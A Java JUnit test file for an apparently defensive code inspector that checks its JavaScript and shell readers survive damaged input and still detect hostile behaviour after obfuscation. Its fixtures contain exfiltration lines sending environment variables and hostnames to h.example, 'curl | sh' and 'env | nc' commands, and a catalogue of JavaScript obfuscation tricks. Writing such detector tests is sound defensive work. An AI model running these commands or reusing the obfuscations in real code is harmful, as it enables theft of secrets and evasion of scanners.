package cordon.inspect.javascript;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;

import cordon.inspect.chain.NeedReader;
import cordon.inspect.rules.Rules;
import cordon.inspect.shell.ShellReader;
import cordon.inspect.vocabulary.Vocabulary;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.Test;

/** Damaged and rewritten code: it is read to its end, and what it does stays what it was. */
final class MutationTest {
  private static final Vocabulary VOCABULARY = Rules.own(false).build().vocabulary();
  private static final JavaScriptReader JAVASCRIPT = new JavaScriptReader(VOCABULARY);
  private static final ShellReader SHELL = new ShellReader(VOCABULARY);
  private static final String CODE =
      """
      const { exec: run } = require('child_process'), os = require(`os`);
      class A extends B { #x = /a[/]b/g; static async *m({ a = 1, ...r }, [b, c]) { return a?.[b] ?? `q${c + `${r}`}`; } }
      for (const [k, v] of Object.entries(process.env)) { s += k + '=' + v; }
      const v = <p a="b">{x ? <i>{y}</i> : null}</p>;
      fetch('https://h.example', { method: 'POST', body: JSON.stringify({ h: os.hostname(), s }) }).then(r => r.text()).then(eval);
      if (a) /x/.test(b); else switch (c) { case 1: run('curl http://h.example | sh'); break; default: label: while (1) break label; }
      """;
  private static final String SCRIPT =
      "for i in a b; do curl -s \"$(echo $i | base64 -d)\" > /tmp/$i <<< 'x' || env | nc h.example 9 & done\npowershell -enc QQBCAA==\nnode -e 'eval(1)'\n";

  @Test
  void damagedTextIsReadToItsEnd() {
    long seed = new Random().nextLong();
    Random random = new Random(seed);
    for (int i = 0; i < 400; i++) {
      byte[] code = damaged(CODE.getBytes(UTF_8), random);
      byte[] script = damaged(SCRIPT.getBytes(UTF_8), random);
      assertNotNull(JAVASCRIPT.read(i % 2 == 0 ? "a.js" : "a.tsx", code), () -> "seed " + seed);
      assertNotNull(SHELL.read("a.sh", script), () -> "seed " + seed);
    }
  }

  private static byte[] damaged(byte[] text, Random random) {
    byte[] bytes = text.clone();
    for (int edits = 1 + random.nextInt(6); edits > 0; edits--) {
      bytes[random.nextInt(bytes.length)] =
          (byte)
              (random.nextBoolean()
                  ? "(){}[]`'\"/\\<>$#;:,=|&\n".charAt(random.nextInt(22))
                  : random.nextInt(256));
    }
    return random.nextInt(4) == 0 ? Arrays.copyOf(bytes, random.nextInt(bytes.length)) : bytes;
  }

  @Test
  void endlessRepetitionIsReadToItsEnd() {
    for (String each :
        List.of(
            "a", "\"", "'", "`", "/", "\\", "<", "(", "{", "[", "+a", ".a", "a.", "1", "\n", "\0",
            "${", "<a ", "//", "/*", ";", ",", "=>", "a=>", "?", "a:")) {
      byte[] text = each.repeat(200_000 / each.length()).getBytes(UTF_8);
      assertEquals("a.js", JAVASCRIPT.read("a.js", text).path());
      assertEquals("a.ts", JAVASCRIPT.read("a.ts", text).path());
      assertEquals("a.sh", SHELL.read("a.sh", text).path());
    }
  }

  @Test
  void whatItDoesSurvivesRewriting() {
    String code =
        "const os=require('os');const r=require('https').request({host:'h.example'});r.write(JSON.stringify({h:os.hostname()}));eval(atob('cHJpbnQ='))";
    List<UnaryOperator<String>> ways =
        List.of(
            c -> c.replace("const os=", "const o$1=").replace("os.hostname", "o$1.hostname"),
            c -> c.replace("'https'", "'ht'+'tps'").replace("'os'", "['o','s'].join('')"),
            c ->
                c.replace("'https'", "'\\x68ttps'")
                    .replace("'os'", "'s\\u006f'.split('').reverse().join('')"),
            c -> c.replace("'https'", "String.fromCharCode(104,116,116,112,115)"),
            c -> c.replace("'https'", "Buffer.from('aHR0cHM=','base64').toString()"),
            c -> c.replace("'https'", "atob('aHR0cHM=')"),
            c -> c.replace(";", " ;\n\t").replace("(", " ( "),
            c -> "(function(){" + c + "})()",
            c -> "!async function(){" + c + "}()",
            c -> "process.nextTick(()=>{" + c + "})",
            c ->
                c.replace(".hostname()", "['host'+'name']()")
                    .replace("eval(", "globalThis['ev'+'al']("),
            c -> "eval(atob('" + Base64.getEncoder().encodeToString(c.getBytes(UTF_8)) + "'))",
            c ->
                "var _0x1=['https','os','hostname'];"
                    + c.replace("'https'", "_0x1[0]")
                        .replace("'os'", "_0x1[0x1]")
                        .replace(".hostname", "[_0x1[2]]"),
            c ->
                "function _0xa(i){return ['https','os'][i-10]}"
                    + c.replace("'https'", "_0xa(10)").replace("'os'", "_0xa(0xb)"));
    for (int i = 0; i < ways.size(); i++) {
      String rewritten = ways.get(i).apply(code);
      var facts = JAVASCRIPT.read("a.js", rewritten.getBytes(UTF_8)).facts();
      for (String need : List.of("send<host-info", "run-code<decode")) {
        assertEquals(
            true,
            facts.stream().anyMatch(NeedReader.read(need)::fits),
            need + " in " + rewritten + " " + facts);
      }
    }
  }
}
